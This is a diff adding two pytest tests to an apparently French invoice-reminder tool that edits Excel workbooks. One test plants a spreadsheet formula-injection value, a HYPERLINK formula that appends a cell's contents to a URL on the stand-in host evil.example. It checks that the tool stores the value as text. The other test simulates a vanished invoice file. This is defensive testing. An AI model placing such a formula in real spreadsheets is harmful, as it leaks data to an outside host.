@@ -498,3 +498,45 @@ def test_any_value_in_any_cell_never_chases_wrongly_nor_stops_the_others(small_p
     assert "F-OK" in chased, (ref, cell, result.output)
     second = run(folder)  # and a real run, with its write-back, holds too
     assert second.exit_code in (0, 1), second.output
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_everywhere(small_project):
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+    folder = small_project([invoice_row(client="x", numero="x", echeance=TODAY - days(10))],
+                           [client_row("x", "compta@alpha.fr")])
+    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
+    # Typed as text (Excel's leading apostrophe): a string that starts with = or +.
+    set_cells(folder / "relances.xlsx", "Factures", {"A2": text.format("A2", escape(hostile)),
+                                                     "B2": text.format("B2", "+F-1")})
+    set_cells(folder / "relances.xlsx", "Clients", {"A2": text.format("A2", escape(hostile))})
+    assert run(folder).exit_code == 0
+    book = openpyxl.load_workbook(folder / "relances.xlsx")
+    journal = book["Journal"]
+    assert journal["C2"].value == hostile and journal["C2"].data_type == "s"
+    assert journal["D2"].value == "+F-1" and journal["D2"].data_type == "s"
+    with zipfile.ZipFile(folder / "relances.xlsx") as archive:
+        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        journal_part = max(names)
+        assert b"<f>" not in archive.read(journal_part)
+
+
+def test_a_preview_whose_invoice_copy_vanished_reports_it_and_goes_on(project, monkeypatch):
+    """A copy found while rendering, gone when the message is built (a race no file system
+    can be made to lose on cue: the one place this test stands in for the disk)."""
+    from relances import run as run_module
+    from relances.errors import DeliveryError
+
+    real = run_module.build_email
+
+    def vanished(rendu, *args, **kwargs):
+        if rendu.action.client == "Boulangerie Martin":
+            raise DeliveryError("factures/F-2026-031.pdf : lecture impossible (fichier disparu)")
+        return real(rendu, *args, **kwargs)
+
+    monkeypatch.setattr(run_module, "build_email", vanished)
+    result = run(project, "--apercu", str(project / "apercu"))
+    assert result.exit_code == 1
+    assert "aperçu de « rappel » impossible" in result.output
+    assert len(list((project / "apercu").glob("*.eml"))) == 4
